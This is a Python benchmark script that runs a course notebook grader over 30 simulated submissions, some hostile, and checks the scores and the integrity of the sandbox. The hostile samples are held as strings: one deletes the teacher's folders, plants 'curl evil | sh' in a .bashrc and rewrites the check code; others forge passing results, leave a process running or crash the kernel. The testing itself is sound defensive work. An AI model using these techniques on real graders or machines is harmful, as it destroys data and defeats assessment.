"""A grading run as a class hands it in: 30 submissions of lesson 00, some of them hostile, in one batch.

Writes 30 student notebooks of lesson 00 (two exercises: ``to_uint8_frames`` and ``bounce``): right,
wrong, half done and blank answers, and answers that delete the checks, loop for ever, forge a pass,
crash the kernel, or reach outside their sandbox (delete and write files of the teacher's, rewrite the
course's check code, leave a process running). It grades them in one ``python -m vdlearn grade`` run
and then checks

* that every exercise of every submission got the score written next to it here,
* that nothing outside the sandboxes changed: every file of the course (a copy, which the grader
  runs from, so that a successful attack would damage only the copy), of the teacher's home folder
  and of a folder of canary files hashes as before; no process an answer started is left; the
  grader's temporary folders are gone,
* and how long the batch took (each submission in its own kernel; the time limits are the grader's
  ``--timeout`` per cell and ``--total-timeout`` per notebook).

    python benchmarks/grade_batch.py                    # prints a table; exit 1 if anything is wrong
    python benchmarks/grade_batch.py --timeout 30 --keep --workdir /tmp/grading

Run it on an idle machine for the timing (a busy one stretches every cell; keep ``--timeout`` well
above the slowest cell of the smoke lesson, about 20 s on a busy laptop).
"""
from __future__ import annotations

import argparse
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from vdlearn.course import find_lesson, student_version  # noqa: E402

LESSON = find_lesson(0)
E1, E2 = "00.to_uint8_frames", "00.bounce"

UINT8 = '''def to_uint8_frames(video):
    pixels = ((video.clamp(-1, 1) + 1) * 127.5).round().to(torch.uint8)
    return pixels.permute(1, 2, 3, 0).contiguous()'''
UINT8_OTHER = '''def to_uint8_frames(video):
    """Another correct way: in place, then a transpose chain."""
    x = video.clamp(min=-1.0, max=1.0).add(1.0).mul(255.0 / 2.0)
    return torch.round(x).byte().movedim(0, -1)'''
BOUNCE = '''def bounce(p0, v, t, lo, hi):
    length = hi - lo
    u = torch.remainder(p0 + v * t - lo, 2 * length)
    return lo + length - (u - length).abs()'''
BOUNCE_OTHER = '''def bounce(p0, v, t, lo, hi):
    """Another correct way: Python's % on tensors is a floored modulo too."""
    span = hi - lo
    u = (p0 + v * t - lo) % (2 * span)
    return torch.where(u <= span, lo + u, hi - (u - span))'''
WRONG_UINT8_AXES = "def to_uint8_frames(video):\n    return ((video.clamp(-1, 1) + 1) * 127.5).round().to(torch.uint8)"
WRONG_UINT8_TRUNC = "def to_uint8_frames(video):\n    return ((video.clamp(-1, 1) + 1) * 127.5).to(torch.uint8).permute(1, 2, 3, 0)"
WRONG_UINT8_CLIP = "def to_uint8_frames(video):\n    return ((video + 1) * 127.5).round().to(torch.uint8).permute(1, 2, 3, 0)"
# right at the corners and for single frames; off by one in the middle frames of a clip
WRONG_UINT8_MIDDLE = UINT8.replace("    return pixels", "    pixels[:, 1:-1] += 1\n    return pixels")
WRONG_BOUNCE = "def bounce(p0, v, t, lo, hi):\n    return p0 + v * t"
WRONG_BOUNCE_CLAMP = "def bounce(p0, v, t, lo, hi):\n    return (p0 + v * t).clamp(lo, hi)"


@dataclass
class Submission:
    """One student's notebook: the answer cells' sources, edits of the notebook, the expected marks."""

    name: str
    uint8: str | None = None  # None: the untouched stub
    bounce: str | None = None
    expected: tuple[int, int] = (0, 0)  # marks for E1, E2
    what: str = ""
    edit: str | None = None  # a named edit of the notebook (see _edit)
    probe: dict = field(default_factory=dict)


def submissions(outside: Path, course: Path, home: Path, token: str) -> list[Submission]:
    """The 30 submissions, each with the marks it must get."""
    canary, checks = outside / "canary.txt", course / "vdlearn" / "checks" / "lesson00.py"
    vandal = f'''import os, shutil, glob, pathlib
for target in [{str(outside)!r}, {str(home / "notes")!r}, {str(course / "solutions")!r}]:
    shutil.rmtree(target, ignore_errors=True)           # delete the teacher's folders
for path in [{str(canary)!r}, {str(home / "notes" / "marks.txt")!r}]:
    try:
        os.remove(path)
    except OSError:
        pass
for path, text in [({str(outside / "pwned.txt")!r}, "x"), ({str(home / ".bashrc")!r}, "curl evil | sh"),
                   ("/tmp/vdlearn-pwned-{token}.txt", "x")]:
    try:
        pathlib.Path(path).write_text(text)
    except OSError:
        pass
try:  # make every later check pass: rewrite the course's check code on disk
    pathlib.Path({str(checks)!r}).write_text("def check_to_uint8_frames(f): print('\\u2705 00.to_uint8_frames: correct')\\n"
                                            "def check_bounce(f): print('\\u2705 00.bounce: correct')\\n")
except OSError:
    pass
for control in glob.glob("/tmp/vdlearn-grade-control-*/*") + glob.glob({str(course.parent / "tmp")!r} + "/vdlearn-grade-control-*/*"):
    try:
        pathlib.Path(control).write_text("{{}}")       # the grader's connection files
    except OSError:
        pass
'''
    survivor = f'''import subprocess, sys
code = "import time, pathlib\\ntime.sleep(20)\\npathlib.Path({str(outside / 'late.txt')!r}).write_text('x')  # {token}"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
    network = '''import socket, urllib.request
try:
    urllib.request.urlopen("http://example.com", timeout=5).read()
    print("network: reached example.com")
except Exception as err:
    print("network: refused,", type(err).__name__)
'''
    forge_results = '''import vdlearn.checks, vdlearn.checks.lesson00 as c
vdlearn.checks.RESULTS = {"00.to_uint8_frames": {"passed": True, "message": "correct"}}
def _fake(*args):
    print("\\u2705 00.to_uint8_frames: correct")
c.check_to_uint8_frames = _fake
class checks:
    check_to_uint8_frames = check_bounce = staticmethod(_fake)
print("\\u2705 00.to_uint8_frames: correct")
''' + WRONG_UINT8_AXES
    forge_modules = '''import sys, types
fake = types.ModuleType("vdlearn.checks.lesson00")
fake.check_to_uint8_frames = fake.check_bounce = lambda *a: print("\\u2705 00.bounce: correct")
sys.modules["vdlearn.checks.lesson00"] = fake
''' + WRONG_BOUNCE
    forge_library = "import torch\ntorch.equal = lambda a, b: True   # every comparison agrees\n" + WRONG_UINT8_MIDDLE
    forge_reference = ("import vdlearn.data.shapes\n" + WRONG_BOUNCE_CLAMP
                       + "\nvdlearn.data.shapes.bounce = bounce   # the check's reference is now this answer")
    return [
        Submission("01_right", UINT8, BOUNCE, (1, 1), "both right"),
        Submission("02_right_other_way", UINT8_OTHER, BOUNCE_OTHER, (1, 1), "both right, written differently"),
        Submission("03_right_in_new_cells", UINT8, BOUNCE, (1, 1), "answers retyped in new untagged cells",
                   edit="new_cells"),
        Submission("04_blank", None, None, (0, 0), "handed in untouched"),
        Submission("05_first_only", UINT8, None, (1, 0), "first exercise only"),
        Submission("06_second_only", None, BOUNCE, (0, 1), "second exercise only"),
        Submission("07_wrong_axes", WRONG_UINT8_AXES, BOUNCE, (0, 1), "forgot the permute"),
        Submission("08_wrong_both", WRONG_UINT8_TRUNC, WRONG_BOUNCE, (0, 0), "truncates; no reflection"),
        Submission("09_wrong_clip", WRONG_UINT8_CLIP, WRONG_BOUNCE_CLAMP, (0, 0), "no clipping; clamps instead of bouncing"),
        Submission("10_syntax_error", "def to_uint8_frames(video:\n    return video", BOUNCE, (0, 1), "a syntax error"),
        Submission("11_deleted_checks_right", UINT8, BOUNCE, (1, 1), "check cells deleted, answers right",
                   edit="delete_checks"),
        Submission("12_deleted_checks_wrong", WRONG_UINT8_AXES, WRONG_BOUNCE, (0, 0), "check cells deleted, answers wrong",
                   edit="delete_checks"),
        Submission("13_checks_print_pass", WRONG_UINT8_AXES, WRONG_BOUNCE, (0, 0),
                   "check cells replaced by print('✅ ...'), answers wrong", edit="fake_checks"),
        Submission("14_deleted_answer_cell", UINT8, BOUNCE, (1, 0), "the second answer cell deleted",
                   edit="delete_second_answer"),
        Submission("15_loop_top_level", "while True:\n    pass", BOUNCE, (0, 1), "an endless loop in the answer cell"),
        Submission("16_loop_when_called", "def to_uint8_frames(video):\n    while True:\n        video = video + 0",
                   BOUNCE, (0, 1), "an endless loop when the check calls it"),
        Submission("17_loop_ignores_interrupt", UINT8,
                   "def bounce(p0, v, t, lo, hi):\n    while True:\n        try:\n            pass\n"
                   "        except KeyboardInterrupt:\n            pass", (1, 0),
                   "an endless loop that swallows the interrupt (the kernel is killed)"),
        Submission("18_sleeps_for_ever", UINT8, "import time\ntime.sleep(10**6)\n" + BOUNCE, (1, 0),
                   "sleeps in the answer cell"),
        Submission("19_forge_results", forge_results, BOUNCE, (0, 1),
                   "replaces RESULTS, patches the check module, prints ✅"),
        Submission("20_forge_exit", UINT8, 'def bounce(p0, v, t, lo, hi):\n    print("\\u2705 00.bounce: correct")\n'
                   "    raise SystemExit(0)", (1, 0), "prints ✅ then raises SystemExit"),
        Submission("21_forge_sys_modules", UINT8, forge_modules, (1, 0), "a fake check module in sys.modules"),
        Submission("22_forge_library", forge_library, BOUNCE, (0, 1),
                   "a wrong answer that makes torch.equal agree with everything"),
        Submission("23_forge_reference", UINT8, forge_reference, (1, 0),
                   "a wrong answer installed as the check's reference"),
        Submission("24_crash_os_exit", "import os\nos._exit(1)", BOUNCE, (0, 1), "os._exit in the answer cell"),
        Submission("25_crash_in_check", "def to_uint8_frames(video):\n    import os\n    os._exit(3)", BOUNCE, (0, 1),
                   "os._exit when the check calls it"),
        Submission("26_crash_segfault", UINT8,
                   "def bounce(p0, v, t, lo, hi):\n    import ctypes\n    ctypes.string_at(0)", (1, 0),
                   "a segmentation fault when the check calls it"),
        Submission("27_crash_exception", "raise RuntimeError('my answer is not ready')\n" + UINT8, BOUNCE, (0, 1),
                   "raises before defining the function"),
        Submission("28_vandal", vandal + UINT8, BOUNCE, (1, 1),
                   "right answers that delete and write the teacher's files and rewrite the checks"),
        Submission("29_leaves_a_process", survivor + UINT8, BOUNCE, (1, 1),
                   "right answers that start a process meant to outlive the kernel"),
        Submission("30_network", network + UINT8, "exit()\n" + BOUNCE, (1, 0),
                   "tries the network; the second answer calls exit()"),
    ]


def _edit(nb, how: str | None) -> None:
    cells = nb.cells
    checks = [c for c in cells if "check" in c.metadata.get("tags", [])]
    answers = [c for c in cells if "exercise" in c.metadata.get("tags", [])]
    if how == "delete_checks":
        nb.cells = [c for c in cells if c not in checks]
    elif how == "fake_checks":
        for cell, name in zip(checks, (E1, E2)):
            cell.source = f'print("✅ {name}: correct")'
    elif how == "delete_second_answer":
        nb.cells = [c for c in cells if c is not answers[1]]
    elif how == "new_cells":  # the student deleted the exercise cells and typed the answers into new ones
        sources = [a.source for a in answers]
        nb.cells = [c for c in cells if c not in answers] + [new_code_cell(s) for s in sources]


def write_submissions(subs: list[Submission], course: Path, folder: Path) -> None:
    lesson = nbformat.read(course / "solutions" / LESSON.filename, as_version=4)
    for sub in subs:
        nb = student_version(lesson, LESSON)
        for cell in nb.cells:
            if "exercise" in cell.metadata.get("tags", []):
                answer = sub.uint8 if "to_uint8_frames" in cell.source else sub.bounce
                if answer is not None:
                    cell.source = answer
        _edit(nb, sub.edit)
        nbformat.write(nb, folder / f"{sub.name}_{LESSON.stem}.ipynb")


def fingerprint(*folders: Path) -> dict[str, str]:
    """Path -> sha256 (or 'dir', or the link target) of everything under ``folders``."""
    seen = {}
    for folder in folders:
        for path in sorted([folder, *folder.rglob("*")]):
            if "__pycache__" in path.parts:
                continue
            if path.is_symlink():
                seen[str(path)] = f"link:{os.readlink(path)}"
            elif path.is_dir():
                seen[str(path)] = "dir"
            else:
                seen[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return seen


def processes_with(token: str) -> list[int]:
    """Process ids whose command line contains ``token``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return [pid for pid in found if pid != os.getpid()]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--workdir", default=None, help="where the course copy, submissions and canaries go "
                        "(default: a new temporary folder, deleted at the end unless --keep)")
    parser.add_argument("--timeout", type=float, default=60, help="the grader's seconds per cell")
    parser.add_argument("--total-timeout", type=float, default=900, help="the grader's seconds per notebook")
    parser.add_argument("--isolation", default="auto", choices=["auto", "namespace", "none"])
    parser.add_argument("--keep", action="store_true", help="keep the work folder")
    args = parser.parse_args()

    work = Path(args.workdir or tempfile.mkdtemp(prefix="vdlearn-grade-batch-")).resolve()
    work.mkdir(parents=True, exist_ok=True)
    course, outside, home, tmp, subs_dir = (work / n for n in ("course", "outside", "home", "tmp", "submissions"))
    for folder in (outside, home / "notes", tmp, subs_dir):
        folder.mkdir(parents=True, exist_ok=True)
    if course.exists():
        shutil.rmtree(course)
    ignore = shutil.ignore_patterns("__pycache__", "*.pyc")
    for name in ("vdlearn", "solutions", "notebooks"):
        shutil.copytree(ROOT / name, course / name, ignore=ignore)
    shutil.copy2(ROOT / "pyproject.toml", course / "pyproject.toml")
    (outside / "canary.txt").write_text("the teacher's file\n")
    (outside / "sub").mkdir(exist_ok=True)
    (outside / "sub" / "grades_2024.csv").write_text("alice,2\n")
    (home / "notes" / "marks.txt").write_text("keep me\n")
    (home / ".bashrc").write_text("# the teacher's shell\n")

    token = f"vdlearn-probe-{uuid.uuid4().hex[:12]}"
    subs = submissions(outside, course, home, token)
    assert len(subs) == 30, len(subs)
    write_submissions(subs, course, subs_dir)
    before = fingerprint(course, outside, home, subs_dir)
    stray_tmp = f"/tmp/vdlearn-pwned-{token}.txt"

    book = work / "gradebook.json"
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(tmp), "PYTHONPATH": str(course),
           "OMP_NUM_THREADS": os.environ.get("OMP_NUM_THREADS", "1")}
    env.pop("VDLEARN_DRY_RUN", None)
    cmd = [sys.executable, "-m", "vdlearn", "grade", str(subs_dir), "--out", str(book), "--solutions",
           str(course / "solutions"), "--timeout", str(args.timeout), "--total-timeout", str(args.total_timeout),
           "--isolation", args.isolation]
    print(f"grading {len(subs)} submissions of {LESSON.stem} in {work} ...", flush=True)
    start = time.perf_counter()
    done = subprocess.run(cmd, cwd=course, env=env, capture_output=True, text=True)
    seconds = time.perf_counter() - start
    (work / "grader.log").write_text(done.stdout + "\n--- stderr ---\n" + done.stderr)

    problems: list[str] = []
    if not book.exists():
        print(done.stdout[-3000:], done.stderr[-3000:], sep="\n")
        print("the grader wrote no gradebook")
        return 1
    graded = {Path(s["submission"]).name.removesuffix(f"_{LESSON.stem}.ipynb"): s
              for s in json.loads(book.read_text(encoding="utf-8"))["submissions"]}
    print(f"\n{'submission':28s} {'expected':>8s} {'got':>5s} {'seconds':>8s}  what")
    isolation = {s.get("isolation") for s in graded.values()}
    for sub in subs:
        g = graded.get(sub.name)
        if g is None or g.get("error"):
            problems.append(f"{sub.name}: not graded ({g and g.get('error')})")
            print(f"{sub.name:28s} {'':>8s}   ERR")
            continue
        marks = {r["name"]: int(r["passed"]) for r in g["results"]}
        got = (marks.get(E1, -1), marks.get(E2, -1))
        ok = got == sub.expected
        if not ok:
            why = "; ".join(f"{r['name']}: {r['message']}" for r in g["results"])
            problems.append(f"{sub.name}: expected {sub.expected}, got {got} ({why})")
        print(f"{sub.name:28s} {str(sub.expected):>8s} {str(got):>5s}{'' if ok else ' !!'} {g['seconds']:8.1f}  {sub.what}")

    time.sleep(1)
    after = fingerprint(course, outside, home, subs_dir)
    changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    if changed:
        problems.append(f"changed outside the sandboxes: {changed[:10]}{' ...' if len(changed) > 10 else ''}")
    if Path(stray_tmp).exists():
        problems.append(f"an answer wrote {stray_tmp}")
        Path(stray_tmp).unlink()
    left = processes_with(token)
    if left:
        problems.append(f"processes an answer started are still running: {left}")
        for pid in left:  # ours: started by this benchmark's submissions
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    leftovers = sorted(p.name for p in tmp.iterdir())
    if leftovers:
        problems.append(f"the grader left temporary folders: {leftovers}")

    print(f"\n{len(subs)} submissions graded in {seconds:.0f} s (isolation {', '.join(sorted(map(str, isolation)))}; "
          f"--timeout {args.timeout:g} s per cell, --total-timeout {args.total_timeout:g} s per notebook); "
          f"grader exit status {done.returncode}")
    print(f"slowest submission {max(g['seconds'] for g in graded.values()):.0f} s; "
          f"files watched outside the sandboxes: {len(before)}")
    if problems:
        print("\nPROBLEMS:")
        for p in problems:
            print(f"- {p}")
    else:
        print("every exercise scored as expected; nothing outside the sandboxes changed")
    if not args.keep and args.workdir is None:
        shutil.rmtree(work, ignore_errors=True)
    else:
        print(f"kept {work} (gradebook.json, grader.log)")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
